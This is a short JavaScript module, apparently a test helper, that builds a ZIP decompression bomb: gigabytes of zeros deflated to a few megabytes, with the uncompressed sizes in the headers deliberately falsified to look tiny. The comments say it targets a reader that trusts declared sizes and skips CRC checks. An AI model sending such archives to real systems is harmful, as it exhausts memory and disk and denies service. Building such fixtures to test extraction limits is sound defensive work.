// A zip bomb the way they are made: one entry of gigabytes of zeros, deflated to a few MB, whose
// sizes in the zip's headers are written small (so only counting what comes out can stop it).
import { createDeflateRaw } from 'node:zlib';

/** `entries`: small honest entries (name → bytes, stored); `bomb`: the name of the entry made
 *  of `gigabytes` GB of zeros, declared as `declared` bytes unpacked. */
export async function zipBomb(entries, bomb, { gigabytes = 1.9, declared = 1000 } = {}) {
  const deflate = createDeflateRaw({ level: 9 });
  const out = [];
  deflate.on('data', (c) => out.push(c));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const zeros = Buffer.alloc(16 * 1024 * 1024);
  for (let i = 0; i < Math.round((gigabytes * 1024) / 16); i++) if (!deflate.write(zeros)) await new Promise((r) => deflate.once('drain', r));
  deflate.end();
  await done;
  const files = [...Object.entries(entries).map(([name, data]) => ({ name, data: Buffer.from(data), method: 0, size: data.length })), { name: bomb, data: Buffer.concat(out), method: 8, size: declared }];
  const locals = [];
  const central = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(f.method, 8);
    local.writeUInt32LE(0, 14); // CRC not checked by the reader
    local.writeUInt32LE(f.data.length, 18);
    local.writeUInt32LE(f.size, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(0x0800, 8);
    dir.writeUInt16LE(f.method, 10);
    dir.writeUInt32LE(f.data.length, 20);
    dir.writeUInt32LE(f.size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    locals.push(local, name, f.data);
    central.push(dir, name);
    offset += 30 + name.length + f.data.length;
  }
  const dirBytes = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(dirBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dirBytes, end]);
}
